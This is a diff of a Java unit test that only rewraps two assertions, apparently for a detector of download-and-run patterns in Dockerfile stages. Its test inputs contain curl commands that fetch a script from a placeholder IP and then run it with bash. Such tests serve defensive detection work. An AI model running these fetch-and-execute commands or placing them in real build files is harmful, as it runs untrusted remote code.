@@ -38,8 +38,10 @@ class ImageTest {
 
     @Test
     void aStageHasNothingOfTheOneBeforeIt() {
-        assertThat(judge("curl -so x.sh http://192.0.2.1/x~true\nFROM b~bash x.sh")).isEmpty();
-        assertThat(judge("curl -so x.sh http://192.0.2.1/x~true\nWORKDIR /b~bash x.sh")).isEmpty();
+        assertThat(judge("curl -so x.sh http://192.0.2.1/x~true\nFROM b~bash x.sh"))
+                .isEmpty();
+        assertThat(judge("curl -so x.sh http://192.0.2.1/x~true\nWORKDIR /b~bash x.sh"))
+                .isEmpty();
     }
 
     @ParameterizedTest
